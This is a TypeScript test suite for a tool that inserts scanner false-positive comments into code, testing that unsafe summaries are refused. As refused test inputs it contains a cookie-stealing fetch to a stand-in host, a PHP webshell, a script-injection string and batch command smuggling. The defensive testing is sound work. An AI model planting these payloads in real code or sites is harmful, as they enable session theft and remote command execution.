// The cases of the safe-insertion issue, one by one: each was reproduced against the old
// code (which chose the comment syntax from the language id alone and checked only a
// trailing backslash) and made server text into live code or broke the file.
import { strict as assert } from 'node:assert';
import iconv from 'iconv-lite';
import ts from 'typescript';
import { commentSyntaxFor } from '../../../../src/model/commentSyntax';
import { chooseInsertion, type InsertionChoice } from '../../../../src/model/insertion';
import { Prover } from '../../../../src/model/proof/prover';
import { buildSuppressionComment, resolveStyle, type SuppressionComment } from '../../../../src/model/suppression';
import { describeCodePoint } from '../../../../src/common/text';
import { CATEGORIES } from '../../../../tools/sandbox/catalog';
import { observe } from '../../../support/evidence';
import { compileC, GRAMMAR_DIR, readTypeScript } from './oracles';

const prover = new Prover(GRAMMAR_DIR);
const FP_ID = '5f0c6a43-8d2e-4f0b-9a51-2c1d6e7f8a90';

function comment(languageId: string, summary: string, vendor = 'checkmarx', omitSummary = false): SuppressionComment {
  return buildSuppressionComment({
    languageId,
    style: resolveStyle(vendor, languageId),
    fields: { summary, vendor, issueType: 'XSS', vendorIssueId: 'S5131', fpId: FP_ID },
    omitSummary,
  });
}

async function insert(
  languageId: string,
  text: string,
  line: number,
  summary: string,
  vendor = 'checkmarx',
  encode?: (t: string) => Promise<Uint8Array>,
): Promise<InsertionChoice> {
  const c = comment(languageId, summary, vendor);
  if (!c.ok) return { kind: 'refuse', reason: c.reason, summaryRefused: c.summaryRefused === true };
  return chooseInsertion({
    text,
    line,
    eol: '\n',
    syntax: commentSyntaxFor(languageId)!,
    candidates: c.candidates,
    prover,
    encode,
    encoding: 'shiftjis',
  });
}

const refused = (choice: InsertionChoice): string => {
  assert.equal(choice.kind, 'refuse', choice.kind === 'refuse' ? '' : `inserted ${JSON.stringify(choice.text)}`);
  return choice.kind === 'refuse' ? choice.reason : '';
};
const inserted = (choice: InsertionChoice): Extract<InsertionChoice, { text: string }> => {
  assert.notEqual(choice.kind, 'refuse', choice.kind === 'refuse' ? choice.reason : '');
  return choice as Extract<InsertionChoice, { text: string }>;
};

describe('safe insertion: mixed-context files (item 1)', () => {
  const tsx = `export const P = ({ user }) => (
  <div>
    <p>{user.name}</p>
  </div>
);
`;
  it('JSX: the JSX-expression summary is refused, and prose in JSX children goes in {/* */}, never as text', async () => {
    const attack = 'sanitized upstream {void fetch("https://evil.example/?c="+document.cookie)}';
    const reason = refused(await insert('typescriptreact', tsx, 2, attack, 'sonarqube'));
    assert.match(reason, /U\+007B LEFT CURLY BRACKET.*JSX expression/);
    observe(`JSX expression summary: refused (${reason.slice(0, 90)}…)`);
    for (const vendor of ['sonarqube', 'checkmarx']) {
      const choice = inserted(await insert('typescriptreact', tsx, 2, 'sanitized upstream by React', vendor));
      assert.equal(choice.candidate.form.open, '{/*', vendor);
      // TypeScript's own parser reads the same program, the comment as a comment.
      assert.deepEqual(readTypeScript(choice.after, ts.ScriptKind.TSX).tokens, readTypeScript(tsx, ts.ScriptKind.TSX).tokens);
      observe(`JSX children, ${vendor}: ${JSON.stringify(choice.after.split('\n')[vendor === 'sonarqube' ? 2 : 2])}`);
    }
  });

  it('PHP: a webshell summary is refused; a line in HTML mode takes no comment; nothing goes above a first-line <?php', async () => {
    const php = '<p><?php echo $_GET["q"]; ?></p>\n<?php\n$a = 1;\n';
    const webshell = refused(await insert('php', php, 0, 'escaped <?php system($_GET["c"]); ?>', 'sonarqube'));
    assert.match(webshell, /U\+003C LESS-THAN SIGN/);
    const htmlMode = refused(await insert('php', php, 0, 'escaped by the template', 'sonarqube'));
    assert.match(htmlMode, /HTML output of the PHP file/);
    const strict = '<?php declare(strict_types=1);\n$x = 1;\n';
    const first = refused(await insert('php', strict, 0, 'fine'));
    assert.match(first, /php_tag/);
    assert.equal(inserted(await insert('php', php, 2, 'escaped by the template')).kind, 'insert-above');
    observe(`PHP webshell: refused (${webshell.slice(0, 70)}…); HTML-mode line: refused; above a first-line <?php declare: refused`);
  });

  it('HTML: </script> in a summary is refused; a line in <script> takes the script syntax', async () => {
    const html = '<p>Hi</p>\n<script>\nvar a = location.hash;\ndocument.write(a);\n</script>\n';
    const reason = refused(await insert('html', html, 3, 'safe </script><img src=x onerror=alert(1)>'));
    assert.match(reason, /U\+003C LESS-THAN SIGN/);
    const inScript = inserted(await insert('html', html, 3, 'the hash is never rendered'));
    assert.equal(inScript.candidate.form.open, '//');
    const outside = inserted(await insert('html', html, 0, 'static text'));
    assert.equal(outside.candidate.form.open, '<!--');
    observe(`HTML <script> line: '${inScript.candidate.line.slice(0, 40)}…'; </script> summary refused`);
  });

  it('GitHub Actions: ${{ }} is refused; a run: script line takes a shell comment; other block scalars take none', async () => {
    const wf =
      'on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo hi\n          curl "$URL"\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            console.log(1)\n';
    const expression = refused(await insert('github-actions-workflow', wf, 7, 'the url is ${{ secrets.TOKEN }}'));
    assert.match(expression, /U\+007B LEFT CURLY BRACKET.*template expression/);
    const inRun = inserted(await insert('github-actions-workflow', wf, 7, 'the url is a constant'));
    assert.equal(
      inRun.after.split('\n')[7],
      '          # False positive (checkmarx S5131): the url is a constant (fp 5f0c6a43-8d2e-4f0b-9a51-2c1d6e7f8a90)',
    );
    const inScript = refused(await insert('github-actions-workflow', wf, 11, 'fine'));
    assert.match(inScript, /YAML value|string/);
    observe('workflow: ${{ }} refused; run: line gets a shell comment; github-script block scalar line refused');
  });
});

describe('safe insertion: line continuations per language (item 2)', () => {
  it('batch: no REM between a line ending in ^ and the next, and & | % ^ are refused', async () => {
    const bat = '@echo off\nxcopy a b ^\n  /s\n';
    assert.match(refused(await insert('bat', bat, 2, 'copy is local')), /trailing caret/);
    assert.match(refused(await insert('bat', '@echo off\ndir\n', 1, 'ok & start calc.exe')), /U\+0026 AMPERSAND/);
    observe("batch: REM under a '^' line refused; '& start calc.exe' refused");
  });

  it('PowerShell: no comment under or after a line ending in a backtick', async () => {
    const ps = 'Get-ChildItem -Path . `\n  -Recurse\n';
    assert.match(refused(await insert('powershell', ps, 1, 'read only')), /backtick/);
    assert.match(refused(await insert('powershell', ps, 0, 'read only', 'sonarqube')), /backtick|line continuation/);
  });
});

describe('safe insertion: legacy encodings (item 3)', () => {
  const encoder = (encoding: string) => (text: string) => Promise.resolve(new Uint8Array(iconv.encode(text, encoding)));

  it('refuses a character saved with a 0x5C byte in Shift-JIS, Big5 and GBK, and keeps it in UTF-8 files', async () => {
    const source = 'int main(void) {\n  return 0;\n}\n';
    for (const [encoding, text] of [
      ['shift_jis', '検証済み表'],
      ['big5', '已驗證許'],
      ['gbk', '已验证乗'],
    ] as const) {
      const reason = refused(await insert('c', source, 1, text, 'checkmarx', encoder(encoding)));
      assert.ok(
        reason.includes(`${describeCodePoint(text.codePointAt(text.length - 1)!)} is saved with the byte 0x5C ('\\')`),
        `${encoding}: ${reason}`,
      );
    }
    // A character the encoding cannot hold is saved as '?': refused too.
    assert.match(refused(await insert('c', source, 1, 'é', 'checkmarx', encoder('shift_jis'))), /saved with the byte 0x3F \('\?'\)/);
    inserted(await insert('c', source, 1, '検証済み表', 'checkmarx', (t) => Promise.resolve(new TextEncoder().encode(t))));
    inserted(await insert('c', source, 1, 'plain ASCII', 'checkmarx', encoder('shift_jis')));
  });

  it('gcc proves it: a Shift-JIS // comment ending in 表 swallows the authorization check; the extension refuses it', async () => {
    const source = 'int check(void);\nint main(void) {\n  int authorized = check();\n  return authorized;\n}\n';
    const summary = '入力は検証済み表';
    // A template that ends with the summary, so the comment's last character is 表.
    const c = buildSuppressionComment({
      languageId: 'c',
      style: { template: 'Reviewed: {summary}', placement: 'line-above' },
      fields: { summary, vendor: 'x', issueType: 't', vendorIssueId: 'r', fpId: FP_ID },
    });
    assert.ok(c.ok);
    const place = (encode?: (t: string) => Promise<Uint8Array>) =>
      chooseInsertion({
        text: source,
        line: 2,
        eol: '\n',
        syntax: commentSyntaxFor('c')!,
        candidates: c.candidates,
        prover,
        encode,
        encoding: 'shiftjis',
      });
    const utf8 = inserted(await place());
    const asShiftJis = iconv.encode(utf8.after, 'shift_jis');
    const gcc = compileC(asShiftJis);
    if (!gcc) {
      observe('gcc not on this machine: the compile check was skipped');
    } else {
      assert.equal(gcc.ok, false, 'gcc must see the splice that hides the next line');
      assert.equal(compileC(Buffer.from(utf8.after, 'utf8'))?.ok, true, 'the same file saved as UTF-8 compiles');
      observe(`gcc on the Shift-JIS bytes: ${gcc.error.trim().slice(0, 120)}`);
    }
    const sjis = await place(encoder('shift_jis'));
    assert.match(refused(sjis), /0x5C \('\\'\)/);
    assert.equal((sjis as { summaryRefused: boolean }).summaryRefused, true, 'the comment without the summary is offered');
    observe(`Shift-JIS document: ${refused(sjis).slice(0, 160)}`);
  });
});

describe("safe insertion: other tools' directives (item 4)", () => {
  const DIRECTIVES = [
    'NOLINTNEXTLINE',
    'NOLINTBEGIN',
    'cppcheck-suppress nullPointer',
    'flawfinder: ignore',
    'bearer:disable x',
    'devskim: ignore DS1',
    'njsscan-ignore: x',
    'skipcq: PYL-W0',
    'lint:ignore',
    '@phpstan-ignore-next-line',
    '@psalm-suppress Taint',
    'ReSharper disable once X',
    'CHECKSTYLE:OFF',
    'istanbul ignore next',
    'c8 ignore next',
    'prettier-ignore',
    '@ts-ignore',
    '@ts-expect-error',
    'type: ignore',
    'pylint: disable=x',
    'rubocop:disable Foo',
    'lgtm',
    'nosec',
    'noqa',
    'eslint-disable-line',
  ];
  it('refuses each, in any case, as a directive', () => {
    for (const directive of DIRECTIVES) {
      for (const text of [directive, directive.toUpperCase(), directive.toLowerCase()]) {
        const c = comment('typescript', `reviewed ${text} ok`);
        assert.equal(c.ok, false, text);
        assert.match(c.ok ? '' : c.reason, /directive|would act as/, text);
      }
    }
    observe(`${DIRECTIVES.length} directives × 3 cases refused`);
  });

  it('refuses a Haddock marker at the start of either comment form', () => {
    for (const summary of ['| docs', '^ docs', '$ docs', '* docs']) {
      const c = buildSuppressionComment({
        languageId: 'haskell',
        style: { template: '{summary}', placement: 'line-above' },
        fields: { summary, vendor: 'x', issueType: 't', vendorIssueId: 'r', fpId: FP_ID },
      });
      assert.equal(c.ok, false, summary);
      assert.match(c.ok ? '' : c.reason, /Haddock/);
    }
  });
});

describe('safe insertion: lines inside strings and templates (item 9)', () => {
  const cases: [string, string, number][] = [
    ['javascript', 'const q = `SELECT *\n  WHERE id = ${id}\n  AND x`;\n', 1],
    ['python', 'q = f"""\nSELECT {x}\n"""\n', 1],
    ['shellscript', 'cat <<EOF\n$(whoami)\nEOF\n', 1],
    ['ruby', 's = "a #{\n  x\n} b"\n', 1],
    ['go', 'var s = `a\nb`\n', 1],
    ['java', 'String s = """\n  a\n  """;\n', 1],
  ];
  for (const [languageId, text, line] of cases) {
    it(`${languageId}: no comment goes inside a multi-line string or template`, async () => {
      const reason = refused(await insert(languageId, text, line, 'parameterised'));
      assert.match(reason, /string|heredoc|template/);
      observe(`${languageId}: ${reason.slice(0, 140)}`);
    });
  }
});

describe('safe insertion: the allowlist against the realistic corpus', () => {
  it('accepts every summary of the sandbox corpus in every language with each scanner default', () => {
    const summaries = CATEGORIES.flatMap((c) => c.fpReasons.map((r) => r.short));
    const languages = [
      'python',
      'typescript',
      'typescriptreact',
      'javascript',
      'java',
      'csharp',
      'go',
      'php',
      'ruby',
      'c',
      'cpp',
      'html',
      'yaml',
      'shellscript',
      'powershell',
      'kotlin',
      'sql',
      'dockerfile',
      'bat',
      'makefile',
    ];
    let checked = 0;
    for (const summary of summaries) {
      for (const languageId of languages) {
        for (const vendor of ['checkmarx', 'sonarqube', 'snyk', 'codeql', 'semgrep']) {
          const style = resolveStyle(vendor, languageId);
          const c = buildSuppressionComment({
            languageId,
            style,
            fields: {
              summary,
              vendor,
              issueType: 'SQL_Injection',
              vendorIssueId: vendor === 'codeql' ? 'js/sql-injection' : 'S3649',
              fpId: FP_ID,
            },
          });
          const scannerCannot =
            (vendor === 'sonarqube' && !commentSyntaxFor(languageId)!.endOfLine) ||
            (style.template.startsWith('nosemgrep') && (summary.includes(',') || languageId === 'bat'));
          if (scannerCannot) continue;
          assert.ok(c.ok, `${languageId}/${vendor}: ${c.ok ? '' : c.reason}: ${summary}`);
          checked++;
        }
      }
    }
    observe(`${summaries.length} corpus summaries × ${languages.length} languages × 5 scanners: ${checked} comments built, none refused`);
  });

  it('offers the comment without the summary when the summary is refused', () => {
    const refusedSummary = comment('typescriptreact', 'see {x}');
    assert.equal(refusedSummary.ok, false);
    assert.equal(!refusedSummary.ok && refusedSummary.summaryRefused, true);
    const bare = comment('typescriptreact', 'see {x}', 'checkmarx', true);
    assert.ok(bare.ok);
    assert.equal(bare.line, `// False positive (checkmarx S5131) (fp ${FP_ID})`);
    const sonar = comment('java', 'bad ⚠', 'sonarqube', true);
    assert.ok(sonar.ok);
    assert.equal(sonar.line, `// NOSONAR: false positive (fp ${FP_ID})`);
  });
});

describe('the same false positive twice', () => {
  it('refuses a second comment for an fpId already on the line or the line above', async () => {
    const c = comment('python', 'parameterised query');
    assert.ok(c.ok);
    const text = 'def f():\n    run(q)\n';
    const first = inserted(
      await chooseInsertion({
        text,
        line: 1,
        eol: '\n',
        syntax: commentSyntaxFor('python')!,
        candidates: c.candidates,
        prover,
        fpId: FP_ID,
      }),
    );
    const again = await chooseInsertion({
      text: first.after,
      line: 2,
      eol: '\n',
      syntax: commentSyntaxFor('python')!,
      candidates: c.candidates,
      prover,
      fpId: FP_ID,
    });
    assert.match(refused(again), /already suppressed here: line 2/);
    const other = await chooseInsertion({
      text: first.after,
      line: 2,
      eol: '\n',
      syntax: commentSyntaxFor('python')!,
      candidates: c.candidates,
      prover,
      fpId: 'a0000000-0000-4000-8000-000000000000',
    });
    assert.equal(other.kind, 'insert-above', 'another false positive may still go there');
  });
});

describe('found in review', () => {
  it('a workflow that names another shell: run: lines are not proven as bash, so nothing goes inside them', async () => {
    const wf =
      'jobs:\n  b:\n    runs-on: windows-latest\n    steps:\n      - shell: cmd\n        run: |\n          echo one\n          echo two\n';
    const reason = refused(await insert('github-actions-workflow', wf, 7, 'reviewed and calc.exe'));
    assert.match(reason, /YAML value|string/);
    const bashOnly = wf.replace('shell: cmd', 'shell: bash');
    assert.equal((await insert('github-actions-workflow', bashOnly, 7, 'reviewed')).kind, 'insert-above');
  });

  it('without a parser, a block closer is refused in every form (the line may be inside a KDoc)', () => {
    for (const [languageId, closer] of [
      ['kotlin', '*/'],
      ['swift', '*/'],
      ['lua', ']]'],
      ['haskell', '-}'],
      ['julia', '=#'],
      ['fsharp', '*)'],
    ] as const) {
      const c = comment(languageId, `ok ${closer} val pwn = 1`);
      assert.equal(c.ok, false, languageId);
      assert.match(c.ok ? '' : c.reason, /would end the comment early/, languageId);
    }
  });

  it('directive prefixes are refused however they continue (flake8 reads "# noqa1" as noqa)', () => {
    for (const text of ['reviewed # noqa1', 'nosecurity', 'reviewedNOPMD', 'lgtmfine']) {
      const c = comment('python', text);
      assert.equal(c.ok, false, text);
    }
  });

  it('Python: an end-of-line comment goes two spaces after the code (PEP 8) and is proven; other languages keep one', async () => {
    const py = 'def f(conn, q):\n    return conn.execute(q)\n';
    const choice = inserted(await insert('python', py, 1, 'parameterised upstream', 'sonarqube'));
    assert.equal(choice.kind, 'append');
    assert.equal(choice.checkedBy, 'tree-sitter python');
    assert.equal(choice.after.split('\n')[1], `    return conn.execute(q)  # NOSONAR: parameterised upstream (fp ${FP_ID})`);
    const go = 'package main\n\nfunc main() {\n\trun()\n}\n';
    const goChoice = inserted(await insert('go', go, 3, 'reviewed', 'sonarqube'));
    assert.equal(goChoice.kind, 'append');
    assert.equal(goChoice.after.split('\n')[3], `\trun() // NOSONAR: reviewed (fp ${FP_ID})`);
  });

  it('Go: no comment right above import "C" (cgo compiles that comment as C)', async () => {
    const go = 'package main\n\n// #include <stdio.h>\nimport "C"\n\nfunc main() {}\n';
    assert.match(refused(await insert('go', go, 3, 'reviewed')), /cgo preamble/);
  });
});
